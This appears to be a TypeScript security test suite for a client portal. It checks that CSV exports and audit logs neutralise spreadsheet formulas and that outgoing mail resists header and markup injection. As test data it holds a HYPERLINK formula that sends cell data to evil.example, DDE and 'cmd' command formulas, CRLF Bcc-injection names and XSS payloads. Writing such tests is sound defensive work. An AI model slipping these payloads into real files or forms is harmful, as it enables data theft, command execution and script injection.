import type { ClientsPage } from '@portal/contract/clients'
import { BOM } from '@portal/contract/csv'
import { checkRows, notImportedCsv } from '../../mf-clients/src/import/check-rows.ts'
import { guessMapping } from '../../mf-clients/src/import/columns.ts'
import { parseCsv } from '../../mf-clients/src/import/parse.ts'
import { type Caller, newBookkeeper, newClient, portalUrl, unique } from '../../worker/src/testing/portal.ts'
import { decide, delivered, newWork, submit, uploaded } from '../../worker/src/testing/sections.ts'
import { assigned, get, newWorkform, rows, sectionsOf, send } from '../../worker/src/testing/work.ts'
import { attack, type Trial } from './lib/attack.ts'
import { addClient } from './lib/people.ts'
import { drain, words } from './lib/requests.ts'

/** Texts that a spreadsheet treats as formulas, by themselves or after a delimiter or quote. */
const CALL = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
const FORMULAS = [
  ...words(`
    =1+1 +1+1 -1+1 ＝1+1 ＋1 －1 ＠x @SUM(A1) '=1+1 ''=1 "=1+1" ";=1+1;" ",=1+1," a,=1+1,b a;-1 a;'=1 a;;=1 ;=1
    a|=1+1 =DDE("cmd";"/C";"x") =${CALL} a;=${CALL};b O"Neil plain`),
  'a\t=1+1',
  "=cmd|' /C calc'!A0",
  "it's; 'fine'",
]

/** Returns the cells that a spreadsheet with this delimiter reads. Quotes count only at the beginning of a cell. */
function cellsOf(csv: string, delimiter: string): string[] {
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"?)?([^${delimiter}\r\n]*)(?:[${delimiter}\r\n]|$)`, 'g')
  return [...csv.matchAll(cell)].map(([, quoted = '', rest = '']) => quoted.replaceAll('""', '"') + rest)
}

function checkCells(t: Trial, what: string, csv: string): void {
  for (const delimiter of [',', ';', '\t']) {
    for (const cell of cellsOf(csv.replace(BOM, ''), delimiter))
      t.check(!/^[=+\-@＝＋－＠]/.test(cell), `${what} with ${JSON.stringify(delimiter)}: ${cell.slice(0, 80)}`)
  }
}

const exported = async (who: Caller, path: string): Promise<string> =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await (await who.fetch(path)).arrayBuffer())

/** Returns what of each client an import has to keep. An import replaces line breaks with spaces. */
async function clientsOf(who: Caller): Promise<string[]> {
  const { items } = await get<ClientsPage>(who, '/api/clients?limit=100&sort=created')
  const oneLine = (cell: string | null) => cell?.replace(/\p{Cc}+/gu, ' ') ?? null
  return items.map(({ name, phone, company, status }) =>
    JSON.stringify([...[name, phone, company].map(oneLine), status]),
  )
}

attack('formulas in the export of clients', async (t) => {
  const bookkeeper = await newBookkeeper(undefined, `=${CALL}`)
  for (const text of FORMULAS) {
    const input = { name: text, phone: text.slice(0, 40), company: text }
    await t.accepts(`a client called ${text}`, addClient(bookkeeper, input))
  }
  const csv = await exported(bookkeeper, '/api/clients/export')
  t.check(csv.startsWith(BOM), 'no byte order mark')
  checkCells(t, 'the clients', csv)
  const [head, ...body] = parseCsv(csv.replace(BOM, '')).rows
  const columns = head?.cells ?? []
  const rejected = body.map((row) => ({ row, reason: '=1+1' }))
  checkCells(t, 'the rows that were not imported', notImportedCsv(columns, rejected))

  const other = await newBookkeeper()
  const checked = checkRows(body, guessMapping(columns, body), columns.length, new Map())
  const imported = checked.map(({ cells }) => ({ ...cells, email: `${unique('import')}@example.com` }))
  await t.accepts('the import', send(other, 'POST', '/api/clients/import', { rows: imported, invite: false }))
  const after = await clientsOf(other)
  const lost = (await clientsOf(bookkeeper)).filter((client) => !after.includes(client))
  t.check(lost.length === 0, `an import changes exported clients: ${lost.join(' ')}`)
})

attack('formulas in the export of the audit log', async (t) => {
  const bookkeeper = await newBookkeeper(undefined, '=1+1')
  const client = await newClient(bookkeeper, '@SUM(A1)')
  for (const text of FORMULAS.slice(0, 22)) {
    const fields = [{ id: 'scan', name: text, type: 'file', section: `${text} ` }]
    const workform = await newWorkform(bookkeeper, { name: text, description: text, fields })
    await assigned(bookkeeper, workform, [client.clientId])
    const [{ id } = { id: '' }] = await sectionsOf(client.clientId, workform.id)
    const file = await uploaded(client, id, `${text}.pdf`)
    await t.accepts(text, submit(client, id, { scan: [file] }))
    await drain(decide(bookkeeper, 'reject', id, { version: 1, reason: text }))
  }
  checkCells(t, 'the audit log', await exported(bookkeeper, '/api/audit/export'))
})

/** Names that begin a header of their own, or an element. */
const NAMES = [
  'Bea\r\nBcc: victim@evil.example',
  'Bea\nSubject: x',
  'Bea\rX: y',
  'Bea\u2028Bcc: v@evil.example',
  'Bea\0',
  'Bea <script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'Bea" <evil@evil.example>, "x',
  '=?utf-8?q?=0d=0aBcc:_v@evil.example?=',
  '\u202eaeB',
  'javascript:alert(1)',
  '</title></style><script>alert(1)</script>',
]
const TAGS = words('!doctype html head meta title style body table tr td h1 p a br')
const ADDRESS = /^("(?:[^"\\]|\\.)*" <[^<>"]+@[^<>"]+>|[^<>"\s]+@[^<>"\s]+)$/

interface MailRow {
  to: string
  subject: string
  html: string
  from: string
  reply_to: string | null
  unsubscribe: string | null
}

/** Makes people with this name cause every kind of mail. @returns their addresses */
async function causeMails(t: Trial, name: string): Promise<string[]> {
  const fields = [
    { id: 'note', name, section: name },
    { id: 'b', name: 'B', section: 'B' },
  ]
  const { bookkeeper, client, first } = await newWork(fields)
  await drain(send(bookkeeper, 'PATCH', '/api/profile', { name, company: name, time_zone: 'UTC' }))
  const setSender = (sender_name: string, reply_to: string) =>
    send(bookkeeper, 'PUT', '/api/firm-mail/sender', { sender_name, reply_to })
  for (const sender of [name, name.replace(/[<>@]/g, '')])
    await t.refuses('replies to two addresses', setSender(sender, 'a,b@evil.example'))
  await drain(setSender(name, 'reply@example.com'))
  const email = `${unique('mail')}@example.com`
  await t.accepts(`a client called ${JSON.stringify(name)}`, addClient(bookkeeper, { name, email, company: name }))
  await drain(submit(client, first.id, { note: name }))
  await drain(decide(bookkeeper, 'reject', first.id, { version: 1, reason: name }))
  return [email, client.email, bookkeeper.email]
}

attack('headers and markup in every mail', async (t) => {
  const people: string[] = []
  for (const name of NAMES) people.push(...(await causeMails(t, name)))
  await delivered("kind = 'mail' AND dead_at IS NULL")
  const sent = await rows<MailRow>('SELECT "to", subject, html, "from", reply_to, unsubscribe FROM dev_mailbox')
  const mails = sent.filter(({ to }) => people.includes(to))
  t.check(mails.length >= NAMES.length, `only ${mails.length} mails`)
  for (const { to, subject, html, from, reply_to, unsubscribe } of mails) {
    for (const header of [to, subject, from, reply_to ?? '', unsubscribe ?? ''])
      t.check(!/[\p{Cc}\p{Zl}\p{Zp}]/u.test(header), `a header of two lines: ${JSON.stringify(header)}`)
    t.check(ADDRESS.test(from), `from ${from}`)
    const tags = [...html.matchAll(/<\/?([a-z!][a-z0-9]*)/gi)].map(([, tag = '']) => tag.toLowerCase())
    const foreign = tags.filter((tag) => !TAGS.includes(tag))
    t.check(foreign.length === 0, `a mail has elements ${foreign.join(', ')}`)
    for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g))
      t.check(new URL(href).origin === new URL(portalUrl).origin, `a mail links to ${href}`)
    t.check(!/\son\w+=/i.test(html.replaceAll(/>[^<]*</g, '><')), 'a mail has an event handler')
  }
})
